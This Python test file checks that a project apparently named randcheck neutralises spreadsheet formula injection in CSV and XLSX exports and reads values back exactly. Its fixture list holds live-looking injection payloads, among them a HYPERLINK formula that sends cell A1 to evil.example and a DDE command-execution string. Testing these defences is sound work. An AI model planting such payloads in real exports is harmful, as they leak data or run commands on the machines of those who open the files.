"""Formula injection: every CSV and XLSX text cell randcheck writes is inert in a
spreadsheet, and reading gives back exactly what was written, for every string."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from randcheck.io import read_registry, write_registry
from randcheck.io.cells import FORMULA_TRIGGERS, escape_cell, needs_escape, unescape_cell
from randcheck.io.tables import read_csv
from randcheck.publish.table import Table
from randcheck.registry import Registry
from randcheck.report.files import write_table
from tests.conftest import make_entity, make_inspector

TRIGGERS = sorted(FORMULA_TRIGGERS)


def as_lf(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "'=1",
    "''",
    "'",
    "'abc",
    "#N/A",
    "=",
    "-",
]
# text with a quote, a trigger or both at its start, and anything after
edgy = st.lists(st.sampled_from(["'", *TRIGGERS, "a", "中", " "]), max_size=4).map("".join)
any_text = st.one_of(edgy, st.text(), st.builds(str.__add__, edgy, st.text()))


@given(any_text)
def test_escaping_round_trips_every_string(text: str) -> None:
    escaped = escape_cell(text)
    assert unescape_cell(escaped) == text
    assert escaped[:1] not in FORMULA_TRIGGERS  # never a formula
    assert escaped == text or escaped == "'" + text
    assert needs_escape(text) == (escaped != text)


def _header_table(values: list[str]) -> Table:
    # "uscc" makes the reader take it for an entity table; the cells are raw text
    return Table("t", [("uscc", "uscc"), ("v", "value")], [{"uscc": v, "v": v} for v in values])


@settings(max_examples=60, deadline=None)
@given(st.lists(any_text, min_size=1, max_size=8))
def test_every_string_round_trips_through_csv(
    tmp_path_factory: pytest.TempPathFactory, values: list[str]
) -> None:
    path = tmp_path_factory.mktemp("csv") / "t.csv"
    write_table(_header_table(values), path)
    table = read_csv(path)
    rows = [list(cells) for _, cells in table.rows]
    assert table.headers == ["uscc", "value"]
    assert rows == [[v, v] for v in values]
    with path.open(encoding="utf-8-sig", newline="") as handle:
        raw = [cell for row in csv.reader(handle) for cell in row]
    assert not any(cell[:1] in FORMULA_TRIGGERS for cell in raw)


# what an XLSX cell can hold exactly: XML characters, less CR (XML reads it as LF)
xml_text = st.text(
    st.characters(blacklist_categories=("Cs",), blacklist_characters="\r\ufffe\uffff").filter(
        lambda c: c in "\t\n" or ord(c) >= 0x20
    )
)
xlsx_text = st.one_of(edgy, xml_text, st.builds(str.__add__, edgy, xml_text)).filter(
    lambda t: "\r" not in t
)


@settings(max_examples=40, deadline=None)
@given(st.lists(xlsx_text, min_size=1, max_size=8))
def test_every_string_round_trips_through_xlsx(
    tmp_path_factory: pytest.TempPathFactory, values: list[str]
) -> None:
    path = tmp_path_factory.mktemp("xlsx") / "t.xlsx"
    write_table(_header_table(values), path)
    sheet = load_workbook(path).active
    assert sheet is not None
    # a published table is a form: its rows start under the title, unit line and headers
    cells = sheet.iter_rows(min_row=4, values_only=True)
    rows = [["" if c is None else unescape_cell(str(c)) for c in row] for row in cells]
    assert rows == [[v, v] for v in values]
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f"


@pytest.mark.parametrize("text", DANGEROUS)
def test_csv_and_xlsx_output_never_holds_a_formula(tmp_path: Path, text: str) -> None:
    table = Table("t", [("a", "A"), ("n", "N")], [{"a": text, "n": -5}, {"a": "ok", "n": -1.5}])
    write_table(table, tmp_path / "t.csv")
    with (tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[1][0][:1] not in FORMULA_TRIGGERS
    assert rows[1][1] == "-5" and rows[2][1] == "-1.5"  # numbers stay numbers
    write_table(table, tmp_path / "t.xlsx")
    sheet = load_workbook(tmp_path / "t.xlsx").active
    assert sheet is not None
    cell, number = sheet["A4"], sheet["B4"]  # the form's rows 1-3: title, unit, headers
    # XML reads a carriage return as a line feed: an XLSX cannot hold one (registries
    # refuse control characters, so this only touches free-text tables)
    assert cell.data_type == "s" and unescape_cell(str(cell.value)) == as_lf(text)
    assert number.data_type == "n" and number.value == -5
    assert sheet["B5"].value == -1.5


def test_a_registry_with_formula_like_texts_round_trips_in_every_format(tmp_path: Path) -> None:
    names = [n for n in DANGEROUS if n.strip() and n.strip() == n]
    entities = [make_entity(i + 1, name=n, tags=n, address=n) for i, n in enumerate(names)]
    registry = Registry.from_records(
        entities, [make_inspector(1, name="=1+1", expertise="@a;-b;'c")]
    )
    for name in ("r.csv", "r.xlsx", "r.json"):
        for headers in ("zh", "en"):
            write_registry(registry, tmp_path / name, headers=headers)  # type: ignore[arg-type]
            again = read_registry(tmp_path / name).registry
            assert again.digest == registry.digest, (name, headers)
            assert list(again.entities()) == list(registry.entities())
    csv_text = (tmp_path / "r.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in csv_text and ",=" not in csv_text
    book = load_workbook(tmp_path / "r.xlsx")
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                assert not (isinstance(cell.value, str) and cell.value[:1] in FORMULA_TRIGGERS)


printable_edgy = st.lists(st.sampled_from(["'", "=", "+", "-", "@", "a", "中"]), max_size=4).map(
    "".join
)
names_st = st.text(
    st.characters(blacklist_categories=("Cc", "Cs"), blacklist_characters="\ufffe\uffff"),
    min_size=1,
    max_size=12,
).filter(lambda t: t.strip() == t and t)


@settings(max_examples=25, deadline=None)
@given(
    st.lists(
        st.one_of(names_st, st.builds(str.__add__, printable_edgy, names_st)),
        min_size=1,
        max_size=5,
    )
)
def test_any_entity_name_round_trips_through_every_format(
    tmp_path_factory: pytest.TempPathFactory, names: list[str]
) -> None:
    names = [n.strip() for n in names if n.strip()]
    if not names:
        return
    registry = Registry.from_records(make_entity(i + 1, name=n) for i, n in enumerate(names))
    folder = tmp_path_factory.mktemp("reg")
    for name in ("r.csv", "r.xlsx", "r.json"):
        write_registry(registry, folder / name)
        assert read_registry(folder / name).registry.digest == registry.digest, name


def test_an_xlsx_cell_too_long_or_unholdable_is_an_error_naming_it(tmp_path: Path) -> None:
    from randcheck.errors import InputError

    long = Table("t", [("a", "备注")], [{"a": "x" * 32_768}])
    with pytest.raises(InputError, match=r"row 4.*|备注: a text of 32,768") as caught:
        write_table(long, tmp_path / "t.xlsx")
    assert "32,767" in caught.value.what and "row 4" in str(caught.value.where)
    bell = Table("t", [("a", "备注")], [{"a": "ring\x07"}])
    with pytest.raises(InputError, match="control character"):
        write_table(bell, tmp_path / "t.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_a_registry_text_too_long_for_xlsx_writes_nothing(tmp_path: Path) -> None:
    import tempfile

    from randcheck.errors import InputError

    scratch = Path(tempfile.gettempdir())
    before = set(scratch.glob("openpyxl.*"))
    registry = Registry.from_records([make_entity(1), make_entity(2, address="长" * 40_000)])
    with pytest.raises(InputError, match="32,767") as caught:
        write_registry(registry, tmp_path / "r.xlsx")
    assert "row 3" in str(caught.value.where) and "单位地址" in caught.value.what
    assert list(tmp_path.iterdir()) == []
    assert set(scratch.glob("openpyxl.*")) == before  # openpyxl's own scratch files too
    write_registry(registry, tmp_path / "r.csv")  # CSV holds it
    assert read_registry(tmp_path / "r.csv").registry.digest == registry.digest
